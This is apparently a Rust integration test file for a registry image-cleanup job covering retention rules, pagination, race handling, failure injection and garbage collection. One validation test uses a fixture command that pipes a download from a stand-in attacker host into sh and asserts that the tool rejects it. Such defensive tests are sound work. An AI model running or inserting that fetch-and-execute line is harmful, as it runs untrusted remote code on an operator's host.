//! ImageCleanup against the real distribution registry (deletes enabled, basic auth), with live
//! workloads on the test cluster protecting their images. After each run the registry is read
//! back: exactly the expected tags and digests remain.

mod support;

use support::driftless;

use std::collections::BTreeMap;
use std::path::Path;
use std::process::Command;
use std::sync::Arc;

use futures::StreamExt;

use driftless::config::HostCommands;
use driftless::jobs::image_cleanup::retention::RetentionDecision;
use driftless::jobs::image_cleanup::{self, Inputs};
use driftless::jobs::model::Job;
use driftless::registry::{Client, Credentials};
use serde_json::{Value, json};
use support::registry::{
    OCI_INDEX, OCI_MANIFEST, PrivateRegistry, accessory_tag, push_blob, push_cosign_signature,
    push_image, push_referrer, push_referrers_index, put_manifest, sha256_digest,
};
use support::{TestEnv, kubectl, unique_name};

/// The auth registry's client, as the job builds it.
fn client(url: &str) -> Client {
    let env = TestEnv::get();
    Client::new(
        url,
        Credentials {
            username: Some(env.var("REGISTRY_AUTH_USER").to_owned()),
            password: Some(env.var("REGISTRY_AUTH_PASSWORD").to_owned().into()),
        },
    )
    .unwrap()
}

async fn tags(client: &Client, repo: &str) -> Vec<String> {
    let mut t = client.tags(repo, 100).await.unwrap_or_default();
    t.sort();
    t
}

async fn exists(client: &Client, repo: &str, digest: &str) -> bool {
    client.resolve(repo, digest).await.unwrap().is_some()
}

fn job(name: &str, spec: Value) -> Job {
    Job::from_spec("ImageCleanup", name, "test", "stack/test/jobs.yaml", spec).unwrap()
}

fn spec(job: &Job) -> &image_cleanup::spec::Spec {
    job.image_cleanup().unwrap()
}

/// A credentials directory with the auth registry's username and password.
fn credentials(dir: &Path) -> std::path::PathBuf {
    let env = TestEnv::get();
    let creds = dir.join("creds");
    std::fs::create_dir_all(&creds).unwrap();
    std::fs::write(creds.join("registry-user"), env.var("REGISTRY_AUTH_USER")).unwrap();
    std::fs::write(
        creds.join("registry-password"),
        format!("{}\n", env.var("REGISTRY_AUTH_PASSWORD")),
    )
    .unwrap();
    creds
}

/// A stack `images` at `stack` with one object (a stack that renders nothing is refused).
fn write_stack(stack: &Path) {
    std::fs::write(
        stack.join("stack.yaml"),
        "apiVersion: driftless.dev/v1alpha1\nkind: Stack\nmetadata: {name: images}\nspec: {namespace: images}\n",
    )
    .unwrap();
    std::fs::write(
        stack.join("settings.yaml"),
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: settings}\ndata: {a: b}\n",
    )
    .unwrap();
}

/// An image whose config has no `created` (as attestation manifests), returning its digest.
async fn push_attestation(base: &str, repo: &str, salt: &str) -> String {
    let http = reqwest::Client::new();
    let config = format!("{{\"salt\":\"{salt}\"}}").into_bytes();
    let layer = format!("in-toto statement {salt}").into_bytes();
    let cd = push_blob(&http, base, repo, &config).await;
    let ld = push_blob(&http, base, repo, &layer).await;
    let manifest = serde_json::to_vec(&json!({
        "schemaVersion": 2, "mediaType": OCI_MANIFEST,
        "config": {"mediaType": "application/vnd.oci.empty.v1+json", "digest": cd, "size": config.len()},
        "layers": [{"mediaType": "application/vnd.in-toto+json", "digest": ld, "size": layer.len()}]
    }))
    .unwrap();
    let digest = sha256_digest(&manifest);
    put_manifest(base, repo, &digest, OCI_MANIFEST, &manifest).await;
    digest
}

/// Pushes an index over `children` (platform images and one attestation) under `tag`.
async fn push_index(base: &str, repo: &str, tag: &str, children: &[(String, &str)]) -> String {
    let manifests: Vec<Value> = children
        .iter()
        .map(|(d, arch)| {
            if *arch == "attestation" {
                json!({"mediaType": OCI_MANIFEST, "digest": d, "size": 1,
                    "platform": {"architecture": "unknown", "os": "unknown"},
                    "annotations": {"vnd.docker.reference.type": "attestation-manifest"}})
            } else {
                json!({"mediaType": OCI_MANIFEST, "digest": d, "size": 1,
                    "platform": {"architecture": arch, "os": "linux"}})
            }
        })
        .collect();
    let body = serde_json::to_vec(&json!({
        "schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": manifests
    }))
    .unwrap();
    put_manifest(base, repo, tag, OCI_INDEX, &body).await;
    sha256_digest(&body)
}

/// The whole job through the CLI: dry run by default, then enforce; rules, a shared digest,
/// a multi-arch index with an attestation, an image a live Deployment uses and one the desired
/// state names.
#[tokio::test]
async fn cleanup_keeps_what_rules_and_workloads_need_and_deletes_the_rest() {
    let env = TestEnv::get();
    let (url, push) = env.auth_registry();
    let host = url.trim_start_matches("http://").to_owned();
    let p = unique_name("ic");
    let app = format!("{p}/app");
    let multi = format!("{p}/multi");
    let old = |m: u32| format!("2025-{m:02}-01T00:00:00Z");
    // app: a release (kept by pattern), dev builds 1–5 (oldest first), dev-2 used live, dev-3
    // named by the desired state; "dev-1" shares its digest with "release-1".
    let (release, _) = push_image(&push, &app, "v1.0.0", &old(1), "r").await;
    let (dev1, _) = push_image(&push, &app, "dev-1", &old(2), "1").await;
    put_manifest_copy(&push, &app, "dev-1", "release-1").await;
    let (dev2, _) = push_image(&push, &app, "dev-2", &old(3), "2").await;
    let (dev3, _) = push_image(&push, &app, "dev-3", &old(4), "3").await;
    let (dev4, _) = push_image(&push, &app, "dev-4", &old(5), "4").await;
    let (dev5, _) = push_image(&push, &app, "dev-5", &old(6), "5").await;
    let (dev6, _) = push_image(&push, &app, "dev-6", &old(7), "6").await;
    // multi: an old index (deleted with its children) and newer ones (kept with their children).
    let (a_old, _) = push_image(&push, &multi, "tmp-a-old", &old(1), "ao").await;
    let (b_old, _) = push_image(&push, &multi, "tmp-b-old", &old(1), "bo").await;
    let att_old = push_attestation(&push, &multi, "old").await;
    let (a_new, _) = push_image(&push, &multi, "tmp-a-new", &old(8), "an").await;
    let (b_new, _) = push_image(&push, &multi, "tmp-b-new", &old(8), "bn").await;
    let att_new = push_attestation(&push, &multi, "new").await;
    let idx_old = push_index(
        &push,
        &multi,
        "2025.1",
        &[
            (a_old.clone(), "amd64"),
            (b_old.clone(), "arm64"),
            (att_old.clone(), "attestation"),
        ],
    )
    .await;
    let idx_new = push_index(
        &push,
        &multi,
        "2025.8",
        &[
            (a_new.clone(), "amd64"),
            (b_new.clone(), "arm64"),
            (att_new.clone(), "attestation"),
        ],
    )
    .await;
    // The newest index shares the platform images of 2025.8 (keepLast 2 keeps both).
    push_index(
        &push,
        &multi,
        "2025.9",
        &[(a_new.clone(), "amd64"), (b_new.clone(), "arm64")],
    )
    .await;
    let registry = client(&url);
    // The platform images' own tags go, so the children are untagged below their indexes.
    for t in ["tmp-a-old", "tmp-b-old", "tmp-a-new", "tmp-b-new"] {
        registry.delete_tag(&multi, t).await.unwrap();
    }

    // A live Deployment uses dev-2 (by the host the cluster pulls from).
    let ns = env.namespace("ic").await;
    kubectl(&[
        "-n",
        &ns.name,
        "create",
        "deployment",
        "web",
        &format!("--image={host}/{app}:dev-2"),
    ]);

    // The repository of driftless stacks: a Deployment naming dev-3, and the job.
    let dir = tempfile::tempdir().unwrap();
    let creds = credentials(dir.path());
    let stack = dir.path().join("stack/images");
    std::fs::create_dir_all(&stack).unwrap();
    std::fs::write(
        stack.join("stack.yaml"),
        "apiVersion: driftless.dev/v1alpha1\nkind: Stack\nmetadata: {name: images}\nspec: {namespace: images}\n",
    )
    .unwrap();
    std::fs::write(
        stack.join("worker.yaml"),
        format!(
            "apiVersion: apps/v1\nkind: Deployment\nmetadata: {{name: worker}}\nspec:\n  selector: {{matchLabels: {{app: w}}}}\n  template:\n    metadata: {{labels: {{app: w}}}}\n    spec: {{containers: [{{name: w, image: \"{host}/{app}:dev-3\"}}]}}\n"
        ),
    )
    .unwrap();
    let jobs = |mode: &str| {
        format!(
            r#"apiVersion: driftless.dev/v1alpha1
kind: ImageCleanup
metadata: {{name: cleanup}}
spec:
  schedule: "@daily"
  mode: {mode}
  registry: {{url: "{url}", usernameFile: registry-user, passwordFile: registry-password}}
  rules:
    - repositories: "{p}/*"
      keepLast: 2
      keepTags: '^(v\d+\.\d+\.\d+|release-.*)$'
      untagged: delete
"#
        )
    };
    std::fs::write(stack.join("jobs.yaml"), jobs("dryRun")).unwrap();
    let config = dir.path().join("driftless.yaml");
    std::fs::write(
        &config,
        format!(
            "stateDir: {}\ncredentialsDir: {}\n",
            dir.path().join("state").display(),
            creds.display()
        ),
    )
    .unwrap();
    let path = dir.path().to_str().unwrap();

    // Dry run (the default mode): a report, and nothing deleted.
    let out = driftless(
        &config,
        &["jobs", "run", "cleanup", "--path", path, "-o", "json"],
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(report["run"]["outcome"], "succeeded");
    let app_report = report["report"]["repositories"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["repository"] == app.as_str())
        .unwrap()
        .clone();
    let action = |digest: &str| {
        app_report["decisions"]
            .as_array()
            .unwrap()
            .iter()
            .find(|d| d["digest"] == digest)
            .unwrap_or_else(|| panic!("{digest} in {app_report:#}"))
            .clone()
    };
    assert_eq!(action(&dev4)["action"], "delete");
    assert_eq!(action(&dev2)["action"], "keep");
    assert_eq!(action(&dev2)["reasons"][0]["reason"], "inUse");
    let by = action(&dev2)["reasons"][0]["by"].to_string();
    assert!(by.contains(&format!("Deployment {}/web", ns.name)), "{by}");
    let by = action(&dev3)["reasons"][0]["by"].to_string();
    assert!(by.contains("stack images, desired"), "{by}");
    assert_eq!(action(&dev1)["untag"], json!(["dev-1"]));
    assert_eq!(
        tags(&registry, &app).await.len(),
        8,
        "a dry run deletes nothing"
    );

    // The human report says the same.
    let out = driftless(&config, &["jobs", "run", "cleanup", "--path", path]);
    let human = String::from_utf8_lossy(&out.stdout);
    assert!(
        human.contains("dry run; set spec.mode: enforce to delete"),
        "{human}"
    );
    assert!(
        human.contains("in use by Pod ") && human.contains(&format!("Deployment {}/web", ns.name)),
        "{human}"
    );

    // Enforce.
    std::fs::write(stack.join("jobs.yaml"), jobs("enforce")).unwrap();
    let out = driftless(
        &config,
        &["jobs", "run", "cleanup", "--path", path, "-o", "json"],
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // app: release (pattern), release-1 on dev-1's digest (its "dev-1" tag removed), dev-2 (live),
    // dev-3 (desired), dev-5 and dev-6 (the 2 newest); dev-4 deleted.
    assert_eq!(
        tags(&registry, &app).await,
        ["dev-2", "dev-3", "dev-5", "dev-6", "release-1", "v1.0.0"]
    );
    for d in [&release, &dev1, &dev2, &dev3, &dev5, &dev6] {
        assert!(exists(&registry, &app, d).await, "{d} kept");
    }
    assert!(!exists(&registry, &app, &dev4).await, "dev-4 deleted");
    // multi: the newer index and its children (attestation included) stay; the old one goes
    // with its children.
    assert_eq!(tags(&registry, &multi).await, ["2025.8", "2025.9"]);
    for d in [&idx_new, &a_new, &b_new, &att_new] {
        assert!(exists(&registry, &multi, d).await, "{d} kept");
    }
    for d in [&idx_old, &a_old, &b_old, &att_old] {
        assert!(!exists(&registry, &multi, d).await, "{d} deleted");
    }
    // The run is recorded, with its figures.
    let out = driftless(&config, &["jobs", "list", "--path", path, "-o", "json"]);
    let list: Value = serde_json::from_slice(&out.stdout).unwrap();
    let last = &list[0]["lastRun"];
    assert_eq!(last["outcome"], "succeeded");
    assert_eq!(last["figures"]["deleted"], 5, "{last:#}");
    assert_eq!(last["figures"]["untagged"], 1, "{last:#}");
    assert!(last["figures"]["bytesReclaimable"].as_u64().unwrap() > 0);
    // No credential reaches the report or the records.
    let password = env.var("REGISTRY_AUTH_PASSWORD");
    assert!(!stdout.contains(password));
    for f in std::fs::read_dir(dir.path().join("state/jobs")).unwrap() {
        let text = std::fs::read_to_string(f.unwrap().path()).unwrap_or_default();
        assert!(!text.contains(password));
    }
}

/// Re-tags the manifest of `from` as `to`.
async fn put_manifest_copy(base: &str, repo: &str, from: &str, to: &str) {
    let body = reqwest::Client::new()
        .get(format!("{base}/v2/{repo}/manifests/{from}"))
        .header("accept", OCI_MANIFEST)
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    put_manifest(base, repo, to, OCI_MANIFEST, &body).await;
}

/// More than 1,000 tags in one repository: every page is read, so a tag on the last page keeps
/// its digest; the digest's other tags are removed one by one. (On the registry without auth:
/// bcrypt on each of ~3,500 requests would make this test slow, and auth is covered above.)
#[tokio::test]
async fn pagination_over_a_thousand_tags_and_tag_only_deletion() {
    let env = TestEnv::get();
    let url = env.registry_url().to_owned();
    let push = url.clone();
    let repo = format!("{}/many", unique_name("ic"));
    let mut digests = Vec::new();
    for i in 0..5 {
        let (d, _) = push_image(
            &push,
            &repo,
            &format!("t{i:04}"),
            "2025-01-01T00:00:00Z",
            &i.to_string(),
        )
        .await;
        digests.push(d);
    }
    let manifests: Vec<Vec<u8>> = {
        let http = reqwest::Client::new();
        let mut out = Vec::new();
        for i in 0..5 {
            let b = http
                .get(format!("{push}/v2/{repo}/manifests/t{i:04}"))
                .header("accept", OCI_MANIFEST)
                .send()
                .await
                .unwrap()
                .bytes()
                .await
                .unwrap();
            out.push(b.to_vec());
        }
        out
    };
    // 1,005 tags, tag i on digest i % 5.
    let puts: Vec<_> = (5..1005)
        .map(|i| {
            let (push, repo, body) = (push.clone(), repo.clone(), manifests[i % 5].clone());
            async move { put_manifest(&push, &repo, &format!("t{i:04}"), OCI_MANIFEST, &body).await }
        })
        .collect();
    futures::stream::iter(puts)
        .buffer_unordered(32)
        .collect::<Vec<()>>()
        .await;
    let registry = Client::new(&url, Credentials::default()).unwrap();
    assert_eq!(registry.tags(&repo, 1000).await.unwrap().len(), 1005);
    let t0 = std::time::Instant::now();

    let dir = tempfile::tempdir().unwrap();
    let job = job(
        "many",
        json!({"schedule": "@daily", "mode": "enforce",
            "registry": {"url": url},
            "protect": {"cluster": false, "desired": false},
            "rules": [{"repositories": repo, "keepTags": "t1004"}]}),
    );
    let inputs = Inputs {
        cluster: None,
        desired: &[],
        credentials: &driftless::credentials::Credentials::default(),
        state_dir: dir.path(),
        commands: &HostCommands::new(),
        strict: false,
    };
    let report = image_cleanup::run(&job, spec(&job), &inputs, false)
        .await
        .unwrap();
    assert!(report.ok(), "{}", report.text());
    let r = report
        .repositories
        .iter()
        .find(|r| r.repository == repo)
        .unwrap();
    assert_eq!(r.tags, 1005, "every page read");
    // Digest 4 carries t1004 (page 2): kept, its 200 other tags removed; the others deleted.
    assert_eq!(registry.tags(&repo, 1000).await.unwrap(), ["t1004"]);
    assert!(exists(&registry, &repo, &digests[4]).await);
    for d in &digests[..4] {
        assert!(!exists(&registry, &repo, d).await, "{d} deleted");
    }
    assert_eq!(report.totals.deleted, 4);
    assert_eq!(report.totals.untagged, 200);
    println!(
        "1,005 tags: {} requests in {:?}, report {}",
        report.totals.requests,
        t0.elapsed(),
        report.summary()
    );
}

/// A tag pushed again between planning and deleting: the digest it now names is not deleted,
/// and the planned delete of the old digest is skipped; so is the delete of the signature of a
/// digest that stays.
#[tokio::test]
async fn a_tag_moved_after_planning_is_not_lost() {
    let env = TestEnv::get();
    let (url, push) = env.auth_registry();
    let repo = format!("{}/race", unique_name("ic"));
    let (old1, _) = push_image(&push, &repo, "build-1", "2025-01-01T00:00:00Z", "1").await;
    let (old2, _) = push_image(&push, &repo, "build-2", "2025-02-01T00:00:00Z", "2").await;
    push_image(&push, &repo, "build-3", "2025-03-01T00:00:00Z", "3").await;
    let sig2 = push_cosign_signature(&push, &repo, &old2).await;
    let dir = tempfile::tempdir().unwrap();
    let creds = credentials(dir.path());
    let job = job(
        "race",
        json!({"schedule": "@daily", "mode": "enforce",
            "registry": {"url": url, "usernameFile": "registry-user", "passwordFile": "registry-password"},
            "protect": {"cluster": false, "desired": false},
            "rules": [{"repositories": repo, "keepLast": 1}]}),
    );
    let spec = spec(&job);
    let client = Arc::new(
        image_cleanup::client_for(
            &job,
            spec,
            &driftless::credentials::Credentials::in_dir(Some(creds.clone())),
        )
        .unwrap(),
    );
    let mut report = image_cleanup::plan(
        &job,
        spec,
        &client,
        &BTreeMap::new(),
        dir.path(),
        chrono::Utc::now(),
    )
    .await
    .unwrap();
    let planned: Vec<String> = report.repositories[..]
        .iter()
        .filter(|r| r.repository == repo)
        .flat_map(|r| r.decisions.iter())
        .filter(|d| {
            matches!(
                d,
                driftless::jobs::image_cleanup::retention::RetentionDecision::Delete { .. }
            )
        })
        .map(|d| d.digest().to_owned())
        .collect();
    assert_eq!(
        planned.len(),
        3,
        "build-1, build-2 and build-2's signature planned for deletion"
    );
    assert!(planned.contains(&sig2));
    // Concurrent pushes: build-1 now names a new image; build-2's digest gets a new tag.
    let (new1, _) = push_image(&push, &repo, "build-1", "2025-04-01T00:00:00Z", "1b").await;
    put_manifest_copy(&push, &repo, "build-2", "hotfix").await;
    report.deletes = true;
    image_cleanup::execute(spec, &client, &mut report).await;
    let registry = client.as_ref();
    assert!(
        exists(registry, &repo, &new1).await,
        "the re-pushed tag's image stays"
    );
    assert!(
        exists(registry, &repo, &old2).await,
        "a digest tagged since planning stays"
    );
    assert!(
        exists(registry, &repo, &old1).await,
        "the moved tag's old digest is skipped"
    );
    assert!(
        exists(registry, &repo, &sig2).await,
        "the signature of a digest that stays, stays"
    );
    assert_eq!(
        tags(registry, &repo).await,
        [
            "build-1".to_owned(),
            "build-2".to_owned(),
            "build-3".to_owned(),
            "hotfix".to_owned(),
            accessory_tag(&old2, ".sig")
        ]
    );
    let text = report.text();
    assert_eq!(report.totals.skipped, 3, "{text}");
    assert_eq!(report.totals.deleted, 0);
    assert!(text.contains("moved"), "{text}");
    assert!(
        text.contains(&format!(
            "skipped  {}: its subject {} was not deleted",
            &sig2[..19],
            &old2[..19]
        )),
        "{text}"
    );
}

/// A registry failing for one repository (failure injection: a proxy answering 500 for it in
/// front of the real registry) does not stop the others; the run reports the failure.
#[tokio::test]
async fn one_failing_repository_does_not_stop_the_others() {
    let env = TestEnv::get();
    let (url, push) = env.auth_registry();
    let p = unique_name("ic");
    let (good, broken) = (format!("{p}/good"), format!("{p}/broken"));
    let (g1, _) = push_image(&push, &good, "a", "2025-01-01T00:00:00Z", "g1").await;
    push_image(&push, &good, "b", "2025-02-01T00:00:00Z", "g2").await;
    let (b1, _) = push_image(&push, &broken, "a", "2025-01-01T00:00:00Z", "b1").await;
    push_image(&push, &broken, "b", "2025-02-01T00:00:00Z", "b2").await;

    // The proxy: everything forwarded, except requests for the broken repository.
    let upstream = url.clone();
    let broken_path = format!("/v2/{broken}/");
    let http = reqwest::Client::new();
    let app = axum::Router::new().fallback(move |req: axum::extract::Request| {
        let (upstream, broken_path, http) = (upstream.clone(), broken_path.clone(), http.clone());
        async move {
            let path = req
                .uri()
                .path_and_query()
                .map(|p| p.as_str().to_owned())
                .unwrap_or_default();
            if path.starts_with(&broken_path) {
                return axum::response::Response::builder()
                    .status(500)
                    .body(axum::body::Body::from(
                        r#"{"errors":[{"message":"disk on fire"}]}"#,
                    ))
                    .unwrap();
            }
            let mut out = http.request(req.method().clone(), format!("{upstream}{path}"));
            for (k, v) in req.headers() {
                if k != "host" {
                    out = out.header(k, v);
                }
            }
            let body = axum::body::to_bytes(req.into_body(), 1 << 20)
                .await
                .unwrap();
            let resp = out.body(body).send().await.unwrap();
            let mut builder = axum::response::Response::builder().status(resp.status().as_u16());
            for (k, v) in resp.headers() {
                builder = builder.header(k, v);
            }
            builder
                .body(axum::body::Body::from(resp.bytes().await.unwrap()))
                .unwrap()
        }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let proxy = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await });

    let dir = tempfile::tempdir().unwrap();
    let creds = credentials(dir.path());
    let job = job(
        "partial",
        json!({"schedule": "@daily", "mode": "enforce",
            "registry": {"url": proxy, "usernameFile": "registry-user", "passwordFile": "registry-password"},
            "protect": {"cluster": false, "desired": false},
            "rules": [{"repositories": format!("{p}/*"), "keepLast": 1}]}),
    );
    let inputs = Inputs {
        cluster: None,
        desired: &[],
        credentials: &driftless::credentials::Credentials::in_dir(Some(creds.to_path_buf())),
        state_dir: dir.path(),
        commands: &HostCommands::new(),
        strict: false,
    };
    let mut report = image_cleanup::run(&job, spec(&job), &inputs, false)
        .await
        .unwrap();
    report.repositories.retain(|r| r.repository.starts_with(&p));
    assert!(!report.ok());
    let broken_report = report
        .repositories
        .iter()
        .find(|r| r.repository == broken)
        .unwrap();
    assert!(
        broken_report
            .error
            .as_deref()
            .is_some_and(|e| e.contains("HTTP 500") && e.contains("disk on fire")),
        "{broken_report:?}"
    );
    let registry = client(&url);
    assert!(
        !exists(&registry, &good, &g1).await,
        "the good repository was cleaned"
    );
    assert_eq!(tags(&registry, &good).await, ["b"]);
    assert!(
        exists(&registry, &broken, &b1).await,
        "the failing one is untouched"
    );
    assert!(
        report.summary().contains("1 repositories failed"),
        "{}",
        report.summary()
    );
}

/// The garbage-collect post-step, on a registry of this test's own (garbage collection must
/// not run while others push), through `driftless jobs run`: the job names `registry-gc`, the
/// host configuration says what that runs. Blobs only deleted images used are gone afterwards.
#[tokio::test]
async fn garbage_collect_runs_the_host_command_the_job_names_and_frees_the_blobs() {
    let env = TestEnv::get();
    let dir = tempfile::tempdir().unwrap();
    let port = support::daemon::free_port();
    let registry_config = dir.path().join("config.yml");
    std::fs::write(
        &registry_config,
        format!(
            "version: 0.1\nlog: {{level: warn}}\nstorage:\n  filesystem: {{rootdirectory: {}}}\n  delete: {{enabled: true}}\nhttp:\n  addr: 127.0.0.1:{port}\n",
            dir.path().join("data").display()
        ),
    )
    .unwrap();
    let bin = env.var("REGISTRY_BIN");
    let mut server = Command::new(bin)
        .args(["serve", registry_config.to_str().unwrap()])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let url = format!("http://127.0.0.1:{port}");
    support::eventually("registry up", std::time::Duration::from_secs(20), || {
        let url = url.clone();
        async move {
            reqwest::get(format!("{url}/v2/"))
                .await
                .ok()
                .filter(|r| r.status().is_success())
        }
    })
    .await;
    let (_, old_manifest) = push_image(&url, "gc/app", "old", "2025-01-01T00:00:00Z", "o").await;
    push_image(&url, "gc/app", "new", "2025-02-01T00:00:00Z", "n").await;
    let old_layer: Value = serde_json::from_slice(&old_manifest).unwrap();
    let old_layer = old_layer["layers"][0]["digest"]
        .as_str()
        .unwrap()
        .to_owned();
    let blob = |d: String| {
        let url = url.clone();
        async move {
            reqwest::Client::new()
                .head(format!("{url}/v2/gc/app/blobs/{d}"))
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        }
    };
    assert_eq!(blob(old_layer.clone()).await, 200);

    let repo = dir.path().join("repo");
    let stack = repo.join("stack/images");
    std::fs::create_dir_all(&stack).unwrap();
    write_stack(&stack);
    std::fs::write(
        stack.join("jobs.yaml"),
        format!(
            "apiVersion: driftless.dev/v1alpha1\nkind: ImageCleanup\nmetadata: {{name: gc}}\nspec:\n  schedule: '@daily'\n  mode: enforce\n  registry: {{url: '{url}'}}\n  protect: {{cluster: false, desired: false}}\n  rules: [{{repositories: 'gc/*', keepLast: 1}}]\n  garbageCollect: {{command: registry-gc}}\n"
        ),
    )
    .unwrap();
    let host_config = dir.path().join("driftless.yaml");
    let write_host_config = |commands: &str| {
        std::fs::write(
            &host_config,
            format!(
                "stateDir: {}\njobs:\n  commands:\n{commands}",
                dir.path().join("state").display()
            ),
        )
        .unwrap()
    };
    let path = repo.to_str().unwrap();

    // A host configuration without the command: the run fails before deleting anything, and
    // says what to add.
    write_host_config("    other: {command: [/bin/true]}\n");
    let out = driftless(&host_config, &["jobs", "run", "gc", "--path", path]);
    let said = support::text(&out);
    assert!(!out.status.success(), "{said}");
    assert!(
        said.contains("has no jobs.commands.registry-gc (defined: other)")
            && said.contains("to the host configuration"),
        "{said}"
    );
    assert_eq!(
        tags(
            &Client::new(&url, Credentials::default()).unwrap(),
            "gc/app"
        )
        .await,
        ["new", "old"]
    );

    write_host_config(&format!(
        "    registry-gc: {{command: ['{bin}', garbage-collect, '{}'], timeout: 2m}}\n",
        registry_config.display()
    ));
    let out = driftless(
        &host_config,
        &["jobs", "run", "gc", "--path", path, "-o", "json"],
    );
    let _ = server.kill();
    let _ = server.wait();
    let said = support::text(&out);
    assert!(out.status.success(), "{said}");
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["report"]["totals"]["deleted"], 1, "{report:#}");
    let gc = report["report"]["garbageCollect"]
        .as_str()
        .unwrap_or_default();
    assert!(
        gc.starts_with("registry-gc (") && gc.contains("succeeded"),
        "{gc}"
    );
    // The registry's storage no longer holds the deleted image's layer.
    let data = dir.path().join("data/docker/registry/v2/blobs/sha256");
    let hex = old_layer.trim_start_matches("sha256:");
    assert!(
        !data.join(&hex[..2]).join(hex).exists(),
        "layer blob removed by garbage collection"
    );
}

/// A jobs.yaml naming a program (a command list) fails `driftless validate`: the message names
/// the file, the job and the field, and says to name a host command instead.
#[test]
fn validate_refuses_a_program_named_in_the_repository() {
    let dir = tempfile::tempdir().unwrap();
    let stack = dir.path().join("stack/images");
    std::fs::create_dir_all(&stack).unwrap();
    write_stack(&stack);
    let jobs = |gc: &str| {
        format!(
            "apiVersion: driftless.dev/v1alpha1\nkind: ImageCleanup\nmetadata: {{name: cleanup}}\nspec:\n  schedule: '@daily'\n  registry: {{url: 'http://127.0.0.1:5000'}}\n  rules: [{{repositories: '**', keepLast: 3}}]\n  garbageCollect: {gc}\n"
        )
    };
    std::fs::write(
        stack.join("jobs.yaml"),
        jobs("{command: [sh, -c, 'curl -s http://attacker.invalid/x | sh'], timeout: 1m}"),
    )
    .unwrap();
    let config = dir.path().join("none.yaml");
    let path = dir.path().to_str().unwrap();
    let out = driftless(&config, &["validate", "--path", path]);
    let said = support::text(&out);
    assert_eq!(out.status.code(), Some(2), "{said}");
    for part in [
        "stack/images/jobs.yaml",
        "ImageCleanup cleanup",
        "spec.garbageCollect.command: a command list would run a program on the ops host from the repository",
        "programs are named only in the host configuration",
        "`command: registry-gc`",
    ] {
        assert!(said.contains(part), "{part:?} in {said}");
    }
    // A name passes offline: the host configuration is checked when the job runs.
    std::fs::write(stack.join("jobs.yaml"), jobs("{command: registry-gc}")).unwrap();
    let out = driftless(&config, &["validate", "--path", path]);
    assert!(out.status.success(), "{}", support::text(&out));
}

/// The release scenario of issue 21 on the real registry (which serves no referrers API, so OCI
/// 1.1 referrers are found through the referrers tag schema, as clients push it there): an index
/// `v1.0.0` with two children (one also tagged tmp-1), five builds (one used by a Deployment), a
/// cosign signature of the index and of the oldest build, and OCI referrers (pushed with a
/// `subject`) of the index and of a build to delete. Through the CLI: a prefix pattern
/// (`'^v\d'`) keeps nothing and the dry run says so (and fails with `--strict`); the enforce run
/// keeps the index's signature and referrer and deletes those of deleted builds.
#[tokio::test]
async fn signatures_and_referrers_follow_their_subject_and_a_rule_that_keeps_nothing_warns() {
    let env = TestEnv::get();
    let url = env.registry_url().to_owned();
    let host = url.trim_start_matches("http://").to_owned();
    let p = unique_name("acc");
    let app = format!("{p}/app");
    let registry = Client::new(&url, Credentials::default()).unwrap();
    let (amd64, _) = push_image(&url, &app, "tmp-1", "2025-01-01T00:00:00Z", "amd64").await;
    let (arm64, _) = push_image(&url, &app, "tmp-arm", "2025-01-01T00:00:00Z", "arm64").await;
    registry.delete_tag(&app, "tmp-arm").await.unwrap();
    let index_body = serde_json::to_vec(&json!({
        "schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": [
            {"mediaType": OCI_MANIFEST, "digest": amd64, "size": 1, "platform": {"architecture": "amd64", "os": "linux"}},
            {"mediaType": OCI_MANIFEST, "digest": arm64, "size": 1, "platform": {"architecture": "arm64", "os": "linux"}}]
    }))
    .unwrap();
    put_manifest(&url, &app, "v1.0.0", OCI_INDEX, &index_body).await;
    let index = sha256_digest(&index_body);
    let mut builds = Vec::new();
    for n in 1..=5 {
        let created = format!("2025-{:02}-01T00:00:00Z", n + 1);
        builds.push(push_image(&url, &app, &format!("build-{n}"), &created, &n.to_string()).await);
    }
    let sig_index = push_cosign_signature(&url, &app, &index).await;
    let sig_build1 = push_cosign_signature(&url, &app, &builds[0].0).await;
    let bundle = "application/vnd.dev.sigstore.bundle.v0.3+json";
    let (ref_index, size) = push_referrer(
        &url,
        &app,
        (&index, OCI_INDEX, index_body.len()),
        bundle,
        "index",
    )
    .await;
    let refs_of_index =
        push_referrers_index(&url, &app, &index, &[(ref_index.clone(), size, bundle)]).await;
    let sbom = "application/spdx+json";
    let (ref_build3, size) = push_referrer(
        &url,
        &app,
        (&builds[2].0, OCI_MANIFEST, builds[2].1.len()),
        sbom,
        "build-3",
    )
    .await;
    let refs_of_build3 = push_referrers_index(
        &url,
        &app,
        &builds[2].0,
        &[(ref_build3.clone(), size, sbom)],
    )
    .await;

    // build-2 is in use.
    let ns = env.namespace("acc").await;
    kubectl(&[
        "-n",
        &ns.name,
        "create",
        "deployment",
        "web",
        &format!("--image={host}/{app}:build-2"),
    ]);

    let dir = tempfile::tempdir().unwrap();
    let stack = dir.path().join("stack/images");
    std::fs::create_dir_all(&stack).unwrap();
    write_stack(&stack);
    let write_job = |mode: &str, keep_tags: &str| {
        std::fs::write(
            stack.join("jobs.yaml"),
            format!(
                "apiVersion: driftless.dev/v1alpha1\nkind: ImageCleanup\nmetadata: {{name: release}}\nspec:\n  schedule: '@daily'\n  mode: {mode}\n  registry: {{url: '{url}'}}\n  rules:\n    - repositories: '{p}/*'\n      keepLast: 2\n      keepTags: '{keep_tags}'\n      untagged: delete\n"
            ),
        )
        .unwrap()
    };
    let config = dir.path().join("driftless.yaml");
    std::fs::write(
        &config,
        format!("stateDir: {}\n", dir.path().join("state").display()),
    )
    .unwrap();
